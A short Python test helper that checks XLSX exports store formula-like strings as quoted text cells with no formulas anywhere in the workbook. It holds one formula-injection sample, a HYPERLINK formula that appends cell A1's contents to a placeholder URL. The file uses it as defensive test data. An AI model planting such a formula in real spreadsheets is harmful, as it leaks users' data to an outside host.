"""Checks for XLSX exports: a string that starts like a formula comes back as a plain text cell."""

import io

INJECTION = '=HYPERLINK("http://x?x="&A1,"点此")'


def text_cell(content: bytes, value: str):
    """The cell holding `value` in the workbook `content`; asserts it is text and that no cell anywhere
    in the workbook is a formula."""
    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    found = [c for c in cells if c.value == value]
    assert found, f"{value!r} is not in the workbook"
    for cell in found:
        assert cell.data_type == "s" and cell.quotePrefix
    return found[0]
